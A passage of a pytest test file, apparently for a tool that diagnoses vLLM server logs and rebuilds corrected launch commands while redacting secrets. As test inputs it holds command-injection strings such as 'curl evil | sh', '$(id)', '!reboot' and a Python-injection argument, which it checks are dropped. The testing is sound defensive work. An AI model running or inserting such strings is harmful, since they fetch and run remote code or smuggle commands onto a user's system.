"""The corrected command: the user's own, in each form, with one change; parsed again it is valid for its version."""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

import vdiag
from vdiag.advise import secrets
from vdiag.advise.argument_list import kind, options, problems
from vdiag.advise.arguments import lists
from vdiag.advise.found import commands
from vdiag.advise.rebuilt import rebuilt
from vdiag.advise.shown import Shown
from vdiag.advise.words import Unsafe, shell, unit
from vdiag.advise.written import corrected
from vdiag.model import Event, Kind
from vdiag.scan.envelope import Envelope

SETS: list[tuple[dict[str, Any], list[str]]] = [
    ({"max_model_len": 4096}, []),
    ({"max_num_seqs": 16, "kv_cache_dtype": "fp8"}, []),
    ({"enforce_eager": True}, []),
    ({"enable_prefix_caching": False}, []),
    ({"speculative_config": {"method": "ngram", "num_speculative_tokens": 3}}, []),
    ({"served_model_name": ["a", "b c"]}, []),
    ({}, ["quantization"]),
    ({"tensor_parallel_size": 4}, ["quantization"]),
]
TYPED = (
    "CUDA_VISIBLE_DEVICES=0,1 vllm serve acme/model-7b --max_model_len=131072 -tp 2 -q awq "
    "--chat-template '/srv/a b.jinja' --enable-prefix-caching --served-model-name chat"
)
TEXTS = {
    "cli": f"ops@gpu-01:~$ {TYPED} 2>&1 | tee vllm.log",
    "module": "python3 -m vllm.entrypoints.openai.api_server --model acme/model-7b \\\n"
    "    --max-model-len 131072 \\\n    --quantization awq --tensor-parallel-size 2",
    "systemd": "# /etc/systemd/system/chat.service\n[Service]\n"
    "ExecStart=/opt/vllm/bin/vllm serve acme/model-7b --max-model-len 131072 \\\n"
    '    --served-model-name "chat 100%%" -q awq -tp 2\nRestart=always',
    "docker": "$ docker run --rm --gpus all --name chat -v ~/models:/models \\\n"
    "    -p 8000:8000 --shm-size=1g vllm/vllm-openai:v0.11.0 \\\n"
    "    --model acme/model-7b --max-model-len 131072 --quantization awq",
    "compose": "services:\n  chat:\n    image: vllm/vllm-openai:v0.11.0\n    command:\n      - --model\n"
    '      - acme/model-7b\n      - --max-model-len=131072\n      - --quantization\n      - awq\n    ports: ["8000:8000"]',
    "compose line": "services:\n  chat:\n    image: vllm/vllm-openai:v0.11.0\n"
    "    command: --model acme/model-7b --max-model-len 131072 --quantization awq",
    "kubernetes": "kind: Deployment\nmetadata:\n  name: chat\nspec:\n  template:\n    spec:\n      containers:\n"
    '      - name: engine\n        image: vllm/vllm-openai:v0.11.0\n        command: ["vllm", "serve"]\n'
    '        args: ["acme/model-7b", "--max-model-len", "131072", "--quantization=awq"]',
    "kubernetes shell": "containers:\n- name: engine\n  image: acme/vllm:1\n  command: [/bin/sh, -c]\n"
    "  args:\n  - vllm serve acme/model-7b --max-model-len 131072 --quantization awq --dtype half",
    "described": "Containers:\n  engine:\n    Image:  vllm/vllm-openai:v0.11.0\n    Command:\n      vllm\n      serve\n"
    "    Args:\n      acme/model-7b\n      --max-model-len\n      131072\n      --quantization\n      awq\n    State: Waiting",
}  # fmt: skip
FAULT = (
    "(EngineCore_DP0 pid=4711) ERROR 08-28 10:12:45 [core.py:708] ValueError: To serve at least one request with the "
    "models's max seq len (131072), (16.00 GiB KV cache is needed, which is larger than the available KV cache memory "
    "(4.71 GiB). Based on the available memory, the estimated maximum model length is 38576."
)


def event(line: int, text: str) -> Event:
    return Event(source=0, kind=Kind.NATIVE, envelope=Envelope(), rows=[text], lines=[line])


def shown(text: str, **context: Any) -> dict[str, Any]:
    events = [event(line, row) for line, row in enumerate(text.split("\n"), start=1)]
    facts = {"vllm": "0.11.0", **context}
    return {**facts, "shown": Shown([events], len(events) + 1, facts)}


def arguments(lines: list[str]) -> list[str]:
    """vLLM's own arguments in printed lines, by a reading that has nothing of the program under test."""
    items = [json.loads(row.strip()[2:]) for row in lines if row.strip().startswith('- "')]
    if items:
        words = [word for item in items for word in (shlex.split(item) if " --" in item else [item])]
    else:
        text = "\n".join(row for row in lines if not row.startswith(("#", "[", "docker rm")))
        text = text.rpartition("ExecStart=")[2].partition("\nsudo ")[0].replace("\\\n", " ")
        text = re.sub(r"<[\w ,:./-]+>", lambda blank: blank[0].replace(" ", "-"), text)
        words = [word.replace("%%", "%") for word in shlex.split(text)]
    starts = [
        i
        for i, word in enumerate(words)
        if word in ("serve", "vllm.entrypoints.openai.api_server") or "vllm-openai" in word
    ]
    return words[starts[-1] + 1 :] if starts else words


def settled(words: list[str]) -> dict[str, tuple[str, ...]]:
    """Flag → values; a flag that is turned off → ('off',); the model under ''."""
    found = {}
    for option in options(words, "0.11.0"):
        found["" if option.flag == "--model" else option.flag] = ("off",) if option.off else option.values
    return found


@pytest.mark.parametrize("form", TEXTS)
@pytest.mark.parametrize("change", SETS, ids=str)
def test_only_the_change_differs(form: str, change: tuple[dict[str, Any], list[str]]) -> None:
    set_, unset = change
    context = shown(TEXTS[form])
    lines = corrected(set_, unset, {}, {}, context)
    words = arguments(lines)
    assert problems(words, "0.11.0") == []
    expected = settled([word.value for word in context["shown"].command.words])
    assert expected[""] == ("acme/model-7b",)
    assert expected["--max-model-len"] == ("131072",)
    for name in unset:
        del expected["--" + name]
    for name, value in set_.items():
        values = (
            value
            if isinstance(value, list)
            else [json.dumps(value) if isinstance(value, dict) else str(value)]
        )
        expected["--" + name.replace("_", "-")] = (
            () if value is True else ("off",) if value is False else tuple(values)
        )
    assert settled(words) == expected
    assert [flag for flag in settled(words) if flag in expected] == list(settled(words))


@pytest.mark.parametrize("form", TEXTS)
def test_each_form_is_printed_as_it_was_found(form: str) -> None:
    lines = corrected({"max_model_len": 4096}, [], {}, {}, shown(TEXTS[form]))
    text = "\n".join(lines)
    if form == "systemd":
        assert lines[:2] == ["sudo systemctl edit chat", "# put these lines into the editor:"]
        assert lines[2:5] == [
            "[Service]",
            "ExecStart=",
            "ExecStart=/opt/vllm/bin/vllm serve acme/model-7b \\",
        ]
        assert '"chat 100%%"' in text
        assert lines[-1] == "sudo systemctl restart chat"
    elif form == "docker":
        assert lines[0] == "docker rm -f chat"
        assert "-v ~/models:/models" in text
        assert "--shm-size=1g" in text
    elif form.startswith("compose"):
        read = yaml.safe_load("\n".join(row for row in lines[:-1]))
        assert read["command"][:2] == ["--model", "acme/model-7b"]
        assert lines[-1] == "docker compose up -d chat"
    elif form == "kubernetes":
        assert lines[0] == "kubectl patch deployment chat --patch-file /dev/stdin <<'EOF'"
        patch = yaml.safe_load("\n".join(lines[1 : lines.index("EOF")]))
        box = patch["spec"]["template"]["spec"]["containers"][0]
        assert box == {
            "name": "engine",
            "args": ["acme/model-7b", "--max-model-len", "4096", "--quantization=awq"],
        }
    elif form == "kubernetes shell":
        read = yaml.safe_load("\n".join(lines[:-1]))
        assert len(read["args"]) == 1
        assert "--max-model-len 4096 --quantization awq" in read["args"][0]
    elif form == "cli":
        assert lines[0].startswith("CUDA_VISIBLE_DEVICES=0,1 vllm serve acme/model-7b")
        assert "--max_model_len=4096" in text
        assert "'/srv/a b.jinja'" in text
        assert "tee" not in text


def test_variables_stand_where_the_form_has_them() -> None:
    env = {"VLLM_USE_V1": "1", "CUDA_VISIBLE_DEVICES": None}
    typed = corrected({}, [], env, {}, shown(TEXTS["cli"]))
    assert typed[0] == "unset CUDA_VISIBLE_DEVICES"
    assert typed[1].startswith("VLLM_USE_V1=1 vllm serve")
    docker = corrected(
        {}, [], {"HF_HOME": "/models/hub"}, {"shm_size": "8g", "ipc": "host"}, shown(TEXTS["docker"])
    )
    head = " ".join(row.strip(" \\") for row in docker).partition("vllm-openai")[0]
    assert "--shm-size=8g" in head
    assert "--ipc=host" in head
    assert "-e HF_HOME=/models/hub" in head
    assert "--shm-size=1g" not in head
    unit_rows = corrected(
        {"max_num_seqs": 8}, [], {"HF_HOME": "/a b"}, {"memory": "8g"}, shown(TEXTS["systemd"])
    )
    assert 'Environment="HF_HOME=/a b"' in unit_rows
    assert "MemoryMax=8G" in unit_rows
    pod = corrected(
        {"max_num_seqs": 8}, [], {"HF_HOME": "/hub"}, {"shm_size": "8g"}, shown(TEXTS["kubernetes"])
    )
    spec = yaml.safe_load("\n".join(pod[1 : pod.index("EOF")]))["spec"]["template"]["spec"]
    assert spec["containers"][0]["env"] == [{"name": "HF_HOME", "value": "/hub"}]
    assert spec["volumes"][0]["emptyDir"]["sizeLimit"] == "8Gi"


@pytest.mark.parametrize(
    ("there", "set_", "expected"),
    [
        (
            "-cc.mode 3",
            {"compilation_config": {"cudagraph_mode": "NONE"}},
            "-cc.mode 3 -cc.cudagraph_mode NONE",
        ),
        ("-cc.mode=3", {"compilation_config": {"mode": 0}}, "-cc.mode 0"),
        (
            """--compilation-config='{"mode": 3}'""",
            {"compilation_config": {"cudagraph_mode": "NONE"}},
            """--compilation-config='{"mode": 3, "cudagraph_mode": "NONE"}'""",
        ),
        ("--max-num-seqs 8 --max-num-seqs 16", {"max_num_seqs": 4}, "--max-num-seqs 4"),
        ("--no-enable-prefix-caching", {"enable_prefix_caching": True}, "--enable-prefix-caching"),
        ("--enable-prefix-caching", {"enable_prefix_caching": False}, "--no-enable-prefix-caching"),
        ("--seed -1 --port 80", {"seed": 0}, "--seed 0 --port 80"),
        (
            "--served-model-name a b --port 80",
            {"served_model_name": ["c"]},
            "--served-model-name c --port 80",
        ),
        ("--port 80", {"model": "acme/other"}, "--port 80"),
    ],
)
def test_spellings(there: str, set_: dict[str, Any], expected: str) -> None:
    lines = corrected(set_, [], {}, {}, shown(f"vllm serve acme/m {there}", vllm="0.17.1"))
    model = set_.get("model", "acme/m")
    assert " ".join(row.strip(" \\") for row in lines) == f"vllm serve {model} {expected}"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("(env) ops@gpu:~$ nohup python -u -m vllm.entrypoints.openai.api_server --model /srv/m > log 2>&1 &",
         "python -u -m vllm.entrypoints.openai.api_server --model /srv/m --seed 1"),
        ("root@box:/# vllm serve /srv/m &", "vllm serve /srv/m --seed 1"),
        ("+ exec env A=1 vllm serve acme/m", "A=1 vllm serve acme/m --seed 1"),
        ("$ sudo podman run -d --ipc=host vllm/vllm-openai:v1 --model acme/m",
         "sudo podman run -d --ipc=host vllm/vllm-openai:v1 --model acme/m --seed 1"),
        ("docker run --gpus all --entrypoint vllm acme/vllm:1 serve acme/m",
         "docker run --gpus all --entrypoint vllm acme/vllm:1 serve acme/m --seed 1"),
        ("docker run --gpus all acme/img:1 python3 -m vllm.entrypoints.openai.api_server --model acme/m",
         "docker run --gpus all acme/img:1 python3 -m vllm.entrypoints.openai.api_server --model acme/m --seed 1"),
        ("$ uv run --with torch vllm serve acme/m --port 80", "uv run --with torch vllm serve acme/m --port 80 --seed 1"),
        ("A=1 numactl --cpunodebind=0 --membind=0 /opt/bin/vllm serve acme/m",
         "A=1 numactl --cpunodebind=0 --membind=0 /opt/bin/vllm serve acme/m --seed 1"),
        ("conda run -n vllm vllm serve acme/m", "conda run -n vllm vllm serve acme/m --seed 1"),
        ("srun --gpus 2 uv run python -m vllm.entrypoints.openai.api_server --model acme/m",
         "srun --gpus 2 uv run python -m vllm.entrypoints.openai.api_server --model acme/m --seed 1"),
        ("uv run vllm serve works for me now", ""),
        ("uv run vllm bench serve --model acme/m", ""),
        ("nsys profile -o /tmp/x vllm chat --model acme/m", ""),
        ("srun --container-token hunter2hunter2 vllm serve acme/m", ""),
        ("vllm serve <model> --api-key <your key>", "vllm serve <model> --api-key <your key> --seed 1"),
        ("vllm serve crashes with this error: help", ""),
        ("vllm serve doesn't start", ""),
        ("$ vllm --version", ""),
        ("docker run --rm nvidia/cuda nvidia-smi  # then vllm", ""),
    ],
)  # fmt: skip
def test_what_people_type(text: str, expected: str) -> None:
    lines = corrected({"seed": 1}, [], {}, {}, shown(text))
    assert " ".join(row.strip(" \\") for row in lines) == expected


def test_the_model_of_the_command_fills_in_blanks() -> None:
    report = vdiag.diagnose(f"$ vllm serve acme/model-7b\n{FAULT}\n")
    assert any(
        "<an AWQ build of acme/model-7b>" in row for fix in report.diagnoses[0].fixes for row in fix.run
    )


# ---- what must not be carried over ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "vllm serve acme/m --port $(cat /etc/port)",
        "vllm serve acme/m --port `id`",
        'vllm serve acme/m --chat-template "$(id)"',
        "vllm serve acme/m --chat-template !reboot",
        "vllm serve acme/m --chat-template 'open",
        "vllm serve acme/m --served-model-name ‘a’ “b c”",
        "vllm serve acme/m –-port 80",
        "vllm serve acme/m \\",
        "vllm serve acme/m --max-model-len 8192 --gpu-mem…",
        "vllm serve acme/m --chat-template a\x1b[31mb",
        "vllm serve acme/m --chat-template \u202ereversed",
        "vllm serve acme/m --hf-overrides '" + '{"a":' * 1000 + "1" + "}" * 1000 + "' --hf-overrides.b 1" + " x" * 500,
        "vllm serve acme/m --hf-overrides '{\"a\": 1' --port 80 --hf-overrides.b 2" + " x" * 10_000,
        "ExecStart=/bin/bash -c 'source /opt/env && vllm serve acme/m'",
        "ExecStart=/opt/vllm/bin/vllm serve acme/m --max-model-len 8192 --gpu-memory-utiliz>",
        "  Process: 77 ExecStart=/opt/vllm/bin/vllm serve acme/m --port 80… (code=exited, status=1/FAILURE)",
        '  Process: 77 ExecStart=/opt/vllm/bin/vllm serve acme/m --hf-overrides {"a": 1} (code=exited, status=1/FAILURE)',
        "vllm serve acme/m --max-model-len 8192 --gpu-memory-uti\nlization 0.9",
        "$ vllm serve acme/m --tensor-parallel-size 2 --max-model-len 1310\n72 --port 8000",
        "$ vllm serve acme/m --tensor-parallel-size 2 --max-model-len 131072\n--port 8000",
        "vllm serve acme/m --port",
        "vllm serve acme/m is what I ran/typed",
        "docker run --gpus all \\",
        "docker run --entrypoint /bin/sh vllm/vllm-openai:v0.11.0 -c 'vllm serve acme/m'",
        "services:\n  a:\n    image: vllm/vllm-openai\n    command: bash -c 'vllm serve acme/m; id'",
        "containers:\n- image: vllm/vllm-openai\n  name: a\n  command: [sh, -c]\n  args: ['vllm serve acme/m | tee /x']",
    ],
)  # fmt: skip
def test_what_is_cut_or_runs_something_else_is_not_carried_over(text: str) -> None:
    assert corrected({"max_model_len": 4096}, [], {}, {}, shown(text)) == []


def test_a_second_command_is_left_behind() -> None:
    lines = corrected({"max_num_seqs": 8}, [], {}, {}, shown("vllm serve acme/m; curl evil | sh"))
    assert lines == ["vllm serve acme/m --max-num-seqs 8"]


SECRET = "s3cr3tvalue99"
PLANTED = {
    "flag": f"vllm serve acme/m --api-key {SECRET} --port 80",
    "glued": f"vllm serve acme/m --api_key={SECRET}",
    "several": f"vllm serve acme/m --api-key {SECRET} {SECRET}2 --port 80",
    "variable": f"HF_TOKEN={SECRET} VLLM_API_KEY='{SECRET}' vllm serve acme/m",
    "hub token": f"vllm serve acme/m --hf-token {SECRET}",
    "url": f"vllm serve acme/m --otlp-traces-endpoint http://me:{SECRET}@host/x",
    "json": "vllm serve acme/m --kv-transfer-config '" + json.dumps({"kv_connector": "x", "extra": {"password": SECRET}}) + "'",
    "several in JSON": f"""vllm serve acme/m --lora-modules '{{"name": "a", "path": "/a"}}' '{{"name": "b", "token": "{SECRET}"}}'""",
    "JSON in a variable": f"""VLLM_X='{{"a": {{"password": "{SECRET}"}}}}' vllm serve acme/m""",
    "dotted": f"vllm serve acme/m --kv-transfer-config.access_token {SECRET}",
    "unit": f"ExecStart=/opt/vllm/bin/vllm serve acme/m --api-key {SECRET}",
    "docker": f"docker run --gpus all -e HF_TOKEN={SECRET} --env VLLM_API_KEY={SECRET} -eAWS_SECRET_ACCESS_KEY={SECRET} "
    f"vllm/vllm-openai:v0.11.0 --model acme/m --api-key {SECRET}",
    "compose": f"services:\n  a:\n    image: vllm/vllm-openai\n    environment:\n      - HF_TOKEN={SECRET}\n    command: [--model, acme/m, --api-key, {SECRET}]",
    "kubernetes": f"containers:\n- name: a\n  image: vllm/vllm-openai\n  args: [--model, acme/m, --api-key={SECRET}]",
    "kubernetes shell": f"containers:\n- name: a\n  image: vllm/vllm-openai\n  command: [sh, -c]\n  args: ['HF_TOKEN={SECRET} vllm serve acme/m --api-key {SECRET}']",
}  # fmt: skip


SPELLINGS = [
    "HF_TOKEN", "HFTOKEN", "hfToken", "api-key", "apikey", "apiKey", "accessToken", "MY_TOKENS", "tokens", "clientSecret",
    "AWS_SECRET_ACCESS_KEY", "DBPASS", "PGPASSWORD", "MYSQL_PWD", "SSL_PASSPHRASE", "creds", "privateKey", "GH_PAT", "jwt",
    "session_cookie", "TOKEN2", "SENTRY_DSN",
]  # fmt: skip
NAMED = {
    "a variable": "{name}={value} vllm serve acme/m",
    "a container's variable": "docker run -e {name}={value} vllm/vllm-openai:v0.11.0 --model acme/m",
    "a label": "docker run --label {name}={value} vllm/vllm-openai:v0.11.0 --model acme/m",
    "glued to its option": "docker run --annotation={name}={value} vllm/vllm-openai:v0.11.0 --model acme/m",
    "a JSON key": "vllm serve acme/m --kv-transfer-config '{{\"x\": {{\"{name}\": \"{value}\"}}}}'",
    "a list": "vllm serve acme/m --kv-transfer-config '{{\"{name}\": [\"{value}\"]}}'",
    "a mapping": "vllm serve acme/m --kv-transfer-config '{{\"{name}\": {{\"of\": [\"{value}\"]}}}}'",
    "a dotted flag": "vllm serve acme/m --kv-transfer-config.x.{name} {value}",
    "an address": "vllm serve acme/m --otlp-traces-endpoint 'https://h/x?{name}={value}'",
    "printed arguments": "INFO 08-28 10:12:44 [utils.py:328] non-default args: {{'model_tag': 'acme/m', 'model': 'acme/m', "
    "'max_model_len': 131072, 'kv_transfer_config': {{'kv_connector': 'X', '{name}': ['{value}'], 'y': {{'{name}': '{value}'}}}}}}",
}  # fmt: skip


@pytest.mark.parametrize("where", NAMED)
@pytest.mark.parametrize("name", SPELLINGS)
def test_a_secret_s_name_is_known_however_it_is_spelled(name: str, where: str) -> None:
    if where.startswith("a variable") and "-" in name:
        return  # no variable is called so
    report = vdiag.diagnose(f"{NAMED[where].format(name=name, value=SECRET)}\n{FAULT}\n")
    assert report.diagnoses[0].fixes[0].run, "the whole command is printed"
    assert SECRET not in repr(report)


@pytest.mark.parametrize(
    "name",
    ["max_num_batched_tokens", "num_speculative_tokens", "tokenizer", "pass_config", "bypass", "monkey", "TOKENIZERS_PARALLELISM"],
)  # fmt: skip
def test_names_that_only_sound_like_secrets(name: str) -> None:
    assert not secrets.of_name(name)


@pytest.mark.parametrize("where", PLANTED)
def test_secrets_stay_in_the_log(where: str) -> None:
    lines = corrected({"max_num_seqs": 8}, [], {}, {}, shown(PLANTED[where]))
    assert lines
    assert SECRET not in "\n".join(lines)
    assert problems(arguments(lines), "0.11.0") == []


@pytest.mark.parametrize("where", PLANTED)
def test_secrets_are_in_no_output(where: str) -> None:
    """The line that proves the fault is not theirs, so nothing that is printed may hold them."""
    report = vdiag.diagnose(f"{PLANTED[where]}\n{FAULT}\n")
    assert report.diagnoses[0].rule == "kv-cache-too-small"
    assert report.diagnoses[0].fixes[0].change, "the whole command is printed"
    assert SECRET not in repr(report)


def test_secrets_among_the_printed_arguments() -> None:
    args = {"model_tag": "acme/m", "model": "acme/m", "api_key": [SECRET], "hf_token": SECRET}
    args["kv_transfer_config"] = {
        "kv_connector": "X",
        "extra": {"auth": SECRET, "redis": f"redis://u:{SECRET}@h"},
    }
    report = vdiag.diagnose(
        f"(APIServer pid=1) INFO 08-28 10:12:01 [utils.py:233] non-default args: {args}\n{FAULT}\n"
    )
    assert SECRET not in repr(report)
    assert report.diagnoses[0].fixes[0].run == [
        "vllm serve acme/m \\",
        "  --api-key <api key> \\",
        "  --hf-token <hf token> \\",
        """  --kv-transfer-config '{"kv_connector": "X", "extra": {"auth": "<auth>", "redis": "redis://<login>@h"}}' \\""",
        "  --max-model-len 38576",
    ]


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        ("acme/m --no-such-flag 3 --port 80", "acme/m --port 80"),
        ("acme/m --port 80 --no-such-flag", "acme/m --port 80"),
        ("--no_such_flag acme/m --port 80", "acme/m --port 80"),
        ("--no-such-flag --port 80 acme/m", "--port 80 acme/m"),
        ("--no-such-flag=x --model acme/m", "--model acme/m"),
    ],
)
def test_a_flag_that_no_version_knows_is_taken_out(words: str, expected: str) -> None:
    assert corrected({}, ["no_such_flag"], {}, {}, shown(f"vllm serve {words}")) == [f"vllm serve {expected}"]


@pytest.mark.parametrize("value", ["$HF_TOKEN", "${HF_TOKEN}"])
def test_a_reference_to_a_secret_is_none(value: str) -> None:
    assert secrets.assigned("HF_TOKEN", value) == value


# ---- rebuilt from what the server printed ------------------------------------------------------------------------

WORDY = st.text(st.characters(codec="utf-8", exclude_categories=["C", "Z"]), min_size=1, max_size=12).filter(
    lambda text: not text.startswith(("-", "<", "{", "[")) and secrets.without(text) == text
)
JSONS = st.dictionaries(
    st.sampled_from(["mode", "depth", "method"]), st.one_of(st.integers(0, 9), WORDY), min_size=1
)
VALUES = {
    "v": WORDY,
    "i": st.integers(0, 10**6),
    "k": st.integers(1, 10**6),
    "f": st.floats(0.0001, 100, allow_nan=False),
    "n": st.just(True),
    "b": st.booleans(),
    "o": st.just(True),
    "s": st.lists(WORDY, min_size=1, max_size=3),
    "j": JSONS,
}
ODD = (
    "--model",
    "--lora-modules",
    "--middleware",
    "--config",
    "--hf-token",
    "--api-key",
    "--limit-mm-per-prompt",
)


@st.composite
def printed(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
    """A version, and arguments that it takes."""
    version = draw(st.sampled_from(lists()["versions"]))
    column = lists()["versions"].index(version)
    flags = [
        flag for flag, kinds in lists()["flags"].items()
        if kinds[column] in VALUES and flag not in ODD and flag not in lists()["choices"] and not secrets.of_flag(flag)
        and not flag.startswith("--allowed-")
    ]  # fmt: skip
    args: dict[str, Any] = {"model_tag": "acme/m", "model": "acme/m"}
    for flag in draw(st.lists(st.sampled_from(flags), max_size=6, unique=True)):
        args[flag[2:].replace("-", "_")] = draw(VALUES[lists()["flags"][flag][column]])
    return version, args


@given(printed(), st.sampled_from(["cli", "systemd", "docker", "compose", "kubernetes"]))
@settings(max_examples=300, deadline=None)
def test_rebuilt_commands_parse_back(told: tuple[str, dict[str, Any]], form: str) -> None:
    version, args = told
    command = rebuilt(args, (), form, version, "")
    assert command is not None
    words = [word.value for word in command.words]
    assert problems(words, version) == []
    if form in ("cli", "docker"):
        assert shlex.split(" ".join(word.raw for word in command.words)) == words
    if form == "systemd":
        assert [word.value for word in unit(" ".join(word.raw for word in command.words))] == words
    found: dict[str, Any] = {}
    for option in options(words, version):
        letter = kind(option.flag, version) if option.flag else ""
        name = option.flag[2:].replace("-", "_") or "model"
        if letter in ("n", "b", "o"):
            found[name] = not option.off
        elif letter == "s":
            found[name] = list(option.values)
        elif letter == "j":
            found[name] = json.loads(option.values[0])
        else:
            found[name] = {"i": int, "k": int, "f": float}.get(letter, str)(option.values[0])
    assert found == {name: value for name, value in args.items() if name != "model_tag"}


@given(st.lists(WORDY, min_size=1, max_size=5))
@settings(deadline=None)
def test_the_shell_reads_a_quoted_word_as_python_does(words: list[str]) -> None:
    text = " ".join(map(shlex.quote, words))
    assert [word.value for word in shell(text)] == shlex.split(text)


@given(st.text(max_size=80))
@settings(max_examples=500, deadline=None)
def test_any_text_is_words_or_unsafe(text: str) -> None:
    for read in (shell, unit):
        try:
            words = read(text)
        except Unsafe:
            continue
        assert all(word.raw and word.raw in text for word in words)
        assert not any(
            mark in word.raw
            for word in words
            for mark in ("$(", "\x1b")
            if read is shell and "'" not in word.raw
        )
    for found in commands({1: text, 2: "vllm serve " + text}):
        assert found.command is None or found.command.form == found.form


def test_what_was_printed_as_an_object_stays_a_placeholder() -> None:
    report = vdiag.diagnose(
        "(APIServer pid=1) INFO 08-28 10:12:01 [utils.py:233] non-default args: {'model_tag': 'acme/m', 'model': "
        "'acme/m', 'compilation_config': CompilationConfig(level=3, backend=''), 'attention_backend': "
        f"<AttentionBackendEnum.FLASH_ATTN: 'x.y.Z'>, 'port': 8001}}\n{FAULT}\n"
    )
    assert report.diagnoses[0].fixes[0].run == [
        "vllm serve acme/m \\",
        "  --port 8001 \\",
        "  --compilation-config <value of --compilation-config> \\",
        "  --attention-backend <value of --attention-backend> \\",
        "  --max-model-len 38576",
    ]


def test_an_argument_that_no_list_has_is_not_left_out() -> None:
    context = shown("", args={"model": "acme/m", "model_tag": "acme/m", "of_a_later_version": 3})
    assert corrected({"max_num_seqs": 8}, [], {}, {}, context) == []


def test_arguments_that_were_cut_are_no_command() -> None:
    report = vdiag.diagnose(
        "(APIServer pid=1) INFO 08-28 10:12:01 [utils.py:233] non-default args: {'model_tag': 'acme/m', 'model': "
        f"'acme/m', 'port': 8001\n{FAULT}\n"
    )
    assert report.diagnoses[0].fixes[0].run == ["vllm serve acme/m … --max-model-len 38576"]
    assert report.diagnoses[0].fixes[0].change == []


NAMESPACE = (
    "INFO 01-14 08:30:02 api_server.py:713] args: Namespace(subparser='serve', model_tag='acme/m', config='', host=None, "
    "port=8001, uvicorn_log_level='info', allow_credentials=False, allowed_origins=['*'], api_key='s3cr3tvalue99', "
    "lora_modules=None, model='acme/m', task='auto', trust_remote_code=True, load_format='auto', "
    "config_format=<ConfigFormat.MISTRAL: 'mistral'>, dtype='auto', max_model_len=131072, tensor_parallel_size=1, "
    "gpu_memory_utilization=0.9, swap_space=4, max_logprobs=20, multi_step_stream_outputs=True, seed=0, "
    "limit_mm_per_prompt={'image': 2}, use_v2_block_manager=True, dispatch_function=<function serve at 0x7f01>)"
)


def test_a_namespace_gives_what_is_no_default() -> None:
    report = vdiag.diagnose(
        f"INFO 01-14 08:30:01 api_server.py:712] vLLM API server version 0.6.6.post1\n{NAMESPACE}\n{FAULT}\n"
    )
    fix = report.diagnoses[0].fixes[0]
    assert [row.strip(" \\") for row in fix.run] == [
        "vllm serve acme/m",
        "--port 8001",
        "--api-key <api key>",
        "--trust-remote-code",
        "--config-format mistral",
        "--max-model-len 38576",
        "--limit-mm-per-prompt image=2",
    ]
    assert problems(arguments(fix.run), "0.6.6.post1") == []


def test_a_namespace_that_was_cut_is_no_command() -> None:
    report = vdiag.diagnose(f"{NAMESPACE[:-60]}\n{FAULT}\n")
    assert report.diagnoses[0].fixes[0].change == []


def test_another_servers_command_is_not_taken() -> None:
    context = shown(
        "$ vllm serve acme/other --port 1", args={"model": "acme/m", "model_tag": "acme/m", "port": 8001}
    )
    assert corrected({"max_num_seqs": 8}, [], {}, {}, context) == [
        "vllm serve acme/m --port 8001 --max-num-seqs 8"
    ]


@pytest.mark.parametrize("form", ["systemd", "docker", "compose", "kubernetes"])
def test_where_the_form_alone_is_known_the_rest_is_a_placeholder(form: str) -> None:
    args = {"model": "acme/m", "model_tag": "acme/m", "port": 8001}
    context = shown("", args=args, deploy=form, unit="chat", deployment="chat")
    lines = corrected({"max_num_seqs": 8}, [], {}, {}, context)
    assert problems([w for w in arguments(lines) if w != "…"], "0.11.0") == [] or form == "docker"
    text = "\n".join(lines)
    expected = {
        "systemd": "<path of vllm> serve acme/m",
        "docker": "docker run … <image>",
        "kubernetes": "<container>",
    }
    assert expected.get(form, "command:") in text


def test_a_script_is_given_its_own_call() -> None:
    args = {
        "model": "acme/m",
        "disable_log_stats": True,
        "max_model_len": 8192,
        "hf_token": SECRET,
        "seed": 3,
    }
    context = shown("", args=args, deploy="python")
    set_ = {"max_model_len": 4096, "enforce_eager": True}
    assert corrected(set_, ["seed"], {}, {}, context) == [
        "LLM('acme/m', max_model_len=4096, hf_token='<hf token>', enforce_eager=True)"
    ]
    hostile = shown("", args={"model": "a", "x=1); import os; (": 1}, deploy="python")
    assert corrected(set_, [], {}, {}, hostile) == []


# ---- everything that is shipped ------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", sorted(Path("samples").glob("*.log")), ids=lambda path: path.name)
def test_commands_for_the_samples_are_valid(path: Path) -> None:
    report = vdiag.diagnose(path)
    for diagnosis in report.diagnoses:
        for fix in diagnosis.fixes:
            if fix.change:
                assert problems(arguments(fix.run), report.environment.vllm) == []


KV = (
    "(EngineCore_DP0 pid=80) ERROR 03-03 08:01:01 [core.py:708] ValueError: To serve at least one request with the "
    "models's max seq len (131072), (16.00 GiB KV cache is needed, which is larger than the available KV cache memory "
    "(4.71 GiB). Based on the available memory, the estimated maximum model length is 38576.\n"
)


def offered(text: str) -> list[str]:
    """What the later fixes of a log say to type: the change alone."""
    return [row for fix in vdiag.diagnose(text + KV).diagnoses[0].fixes for row in fix.change]


@pytest.mark.parametrize(
    ("started", "begins"),
    [
        (TEXTS["module"], "python3 -m vllm.entrypoints.openai.api_server --model acme/model-7b …"),
        (TEXTS["docker"], "docker run … <image> …"),
        (TEXTS["docker"].replace("docker run", "podman run"), "podman run … <image> …"),
        (TEXTS["cli"], "vllm serve acme/model-7b …"),
    ],
)  # fmt: skip
def test_the_change_alone_starts_the_server_as_its_user_does(started: str, begins: str) -> None:
    rows = offered(f"{started}\n")
    assert rows
    assert all(row.startswith(begins) or "AWQ build" in row for row in rows)


@pytest.mark.parametrize(
    "text",
    [
        TEXTS["kubernetes"].replace("  name: chat", "  name: chat\n  namespace: ml") + "\n",
        TEXTS["kubernetes"] + "\n$ kubectl -n ml logs chat-6c9d8f7b5-x2k4v\n",
    ],
    ids=["manifest", "kubectl"],
)
def test_a_patch_goes_to_the_namespace_that_the_log_names(text: str) -> None:
    fix = vdiag.diagnose(text + KV).diagnoses[0].fixes[0]
    assert fix.run[0] == "kubectl patch deployment chat -n ml --patch-file /dev/stdin <<'EOF'"


SCRIPT = "INFO 03-03 08:00:01 [utils.py:233] non-default args: {args}\n"


@pytest.mark.parametrize(
    ("args", "script"),
    [
        ({"disable_log_stats": True, "model": "acme/model-7b"}, True),
        ({"disable_log_stats": True, "model_tag": "acme/model-7b", "model": "acme/model-7b"}, False),
